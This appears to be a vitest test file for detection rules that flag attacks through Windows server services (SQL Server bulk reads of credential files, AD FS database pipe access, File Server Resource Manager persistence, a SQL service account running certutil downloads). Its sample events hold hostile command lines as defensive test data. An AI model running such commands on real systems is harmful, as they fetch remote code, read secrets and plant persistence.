// Built-in rules for attacks through the services a Windows server runs (SQL Server, file services, AD FS and the
// Windows Internal Database, File Server Resource Manager): each rule fires on the event it is written for, as Windows,
// SQL Server or Sysmon writes it, with its level and a tactic of what the event shows, and a benign near miss of the
// same event type does not fire it.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { builtinHits, CMD, describeCatalogue, PS, S32, script as scriptBlock, sysmon, tick, USER, windowsEvent, type CatalogueCase, type Ev } from './builtin.fixture.js';

const subj = { SubjectUserSid: 'S-1-5-21-1-2-3-1481', SubjectUserName: 'c.mendes', SubjectDomainName: 'CORP', SubjectLogonId: '0x5f1e2a4' };
// This file's channel events (and script blocks) are on SRV01.
const win = (channel: string, provider: string, eventId: number, data: JsonRecord, host = 'SRV01', t = tick()): Ev => windowsEvent(t, channel, provider, eventId, data, host);
const script = (text: string): Ev => scriptBlock(text, 'SRV01');
const module = (command: string, parameters: string): Ev =>
  win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding', Payload: `CommandInvocation(${command}): "${command}"\n${parameters}` });
const sec = (id: number, data: JsonRecord, t = tick()): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', id, data, 'SRV01', t);
const proc = (image: string, cmd: string, parent: string, parentCmd: string, extra: JsonRecord = {}): Ev =>
  sysmon(1, { Image: image, OriginalFileName: image.split('\\').pop() ?? '', CommandLine: cmd, ParentImage: parent, ParentCommandLine: parentCmd, User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ...extra });
// Security 4688 as a service account's process creation is written: the subject without its NT SERVICE domain.
const proc4688 = (image: string, cmd: string, parent: string, user: string): Ev =>
  sec(4688, { SubjectUserSid: 'S-1-5-80-1', SubjectUserName: user, SubjectDomainName: 'NT Service', SubjectLogonId: '0x62a3f', NewProcessId: '0x17e4', NewProcessName: image, TokenElevationType: '%%1936', ProcessId: '0x13a0', CommandLine: cmd, TargetUserName: '-', TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: parent, MandatoryLabel: 'S-1-16-12288' });
// SQL Server audit 33205 as the Application log gives it: one positional Data field of name:value lines.
const mssql = (statement: string, action = 'ADBO'): Ev =>
  win('Application', 'MSSQLSERVER', 33205, { Data: [`Audit event: audit_schema_version:1\naction_id:${action}\nsucceeded:true\nsession_server_principal_name:sa\ndatabase_name:tempdb\nstatement:${statement}\napplication_name:SQLCMD\nhost_name:WS-FIN-014`] });
const pipe = (image: string, name = '\\MICROSOFT##WID\\tsql\\query'): Ev => sysmon(18, { EventType: 'ConnectPipe', PipeName: name, Image: image, User: USER });
const SVCHOST = `${S32}svchost.exe`;
const SQLBIN = 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\';

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['SQL Server Bulk Read Of A Configuration, Credential Or Profile File (audit 33205)', 'medium', 'credential-access',
    mssql("CREATE TABLE #t (line NVARCHAR(MAX)); BULK INSERT #t FROM 'C:\\inetpub\\hrportal\\web.config' WITH (ROWTERMINATOR = '\\n');"),
    mssql("BULK INSERT dbo.Orders FROM 'D:\\Import\\orders_2025-06-30.csv' WITH (FIELDTERMINATOR = ',', FIRSTROW = 2);")],
  ['SQL Server Bulk Read Of A Configuration, Credential Or Profile File (audit 33205)', 'medium', 'collection',
    mssql("SELECT BulkColumn FROM OPENROWSET(BULK 'C:\\Users\\Administrator\\Documents\\passwords.xlsx', SINGLE_BLOB) AS x;"),
    mssql("SELECT BulkColumn FROM OPENROWSET(BULK 'D:\\Feeds\\catalog.json', SINGLE_CLOB) AS j;")],
  ['Windows Internal Database Pipe Opened By A Program In A User-Writable Folder', 'medium', 'credential-access',
    pipe('C:\\ProgramData\\ADFSDump.exe'), pipe('C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe')],
  ['File Server Resource Manager Command Action Created Or Changed (script block 4104)', 'medium', 'persistence',
    script("$a = New-FsrmAction -Type Command -Command 'C:\\Windows\\System32\\cmd.exe' -CommandParameters '/c start /b C:\\ProgramData\\x.exe' -SecurityLevel LocalSystem\nNew-FsrmFileScreen -Path 'D:\\Shares\\Public' -IncludeGroup 'Temp' -Notification $a -Active:$false"),
    script("$a = New-FsrmAction -Type Email -MailTo '[Admin Email]' -Subject 'Quota exceeded' -Body 'Quota on [Quota Path] reached'\nNew-FsrmQuota -Path 'D:\\Shares\\Home' -Size 10GB -Threshold (New-FsrmQuotaThreshold -Percentage 90 -Action $a)")],
  ['File Server Resource Manager Command Action Created Or Changed (module logging 4103)', 'medium', 'persistence',
    module('New-FsrmAction', 'ParameterBinding(New-FsrmAction): name="Type"; value="Command"\nParameterBinding(New-FsrmAction): name="Command"; value="C:\\Windows\\System32\\cmd.exe"'),
    module('New-FsrmAction', 'ParameterBinding(New-FsrmAction): name="Type"; value="Event"\nParameterBinding(New-FsrmAction): name="EventType"; value="Warning"')],
  ['Program Started By The File Server Resource Manager Service', 'medium', 'persistence',
    proc(CMD, '"C:\\Windows\\System32\\cmd.exe" /c start /b C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.exe', SVCHOST, 'C:\\Windows\\system32\\svchost.exe -k SrmSvcs'),
    proc(CMD, '"C:\\Windows\\System32\\cmd.exe" /c C:\\Scripts\\cleanup.cmd', SVCHOST, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule')],
  ['SQL Server Service Account Runs A Shell, Script Host Or Download Tool', 'medium', 'execution',
    proc4688(`${S32}certutil.exe`, 'certutil  -urlcache -f http://198.51.100.23/u.txt C:\\Windows\\Temp\\u.txt', CMD, 'SQLSERVERAGENT'),
    proc4688(`${S32}certutil.exe`, 'certutil  -urlcache -f http://198.51.100.23/u.txt C:\\Windows\\Temp\\u.txt', CMD, 'm.okafor')],
  ['SQL Server Service Account Runs A Shell, Script Host Or Download Tool', 'medium', 'execution',
    proc4688(PS, 'powershell -nop -c whoami', `${SQLBIN}sqlservr.exe`, 'MSSQL$REPORTING'),
    proc4688(`${S32}conhost.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', CMD, 'MSSQL$REPORTING')],
];

describeCatalogue('built-in rules for attacks through the services a Windows server runs', cases);

describe('built-in rules for attacks through server services: correlations', () => {
  it('ten different files read over a share by one logon within thirty seconds are collection; nine, or ten spread over a minute, are not', () => {
    const FAST = 'Ten Or More Files Read Over A Share By One Logon Within Thirty Seconds';
    const base = tick() + 600;
    const read = (n: number, t: number): Ev =>
      sec(5145, { ...subj, ObjectType: 'File', IpAddress: '10.20.5.77', IpPort: '62541', ShareName: '\\\\*\\Finance', ShareLocalPath: '\\??\\D:\\Shares\\Finance', RelativeTargetName: `Budget\\Report_${n}.xlsx`, AccessMask: '0x120089', AccessList: '%%1538 %%1541 %%4416 %%4419 %%4423' }, t);
    const titles = (events: Ev[]): string[] => [...builtinHits(events).keys()];
    const range = (k: number): number[] => Array.from({ length: k }, (_, i) => i);
    const h = builtinHits(range(10).map((i) => read(i, base + i))).get(FAST);
    expect(h?.level).toBe('low');
    expect(h?.tactics).toContain('collection');
    expect(titles(range(9).map((i) => read(i, base + 100 + i)))).not.toContain(FAST);
    expect(titles(range(10).map((i) => read(i, base + 200 + i * 7)))).not.toContain(FAST);
  });
});
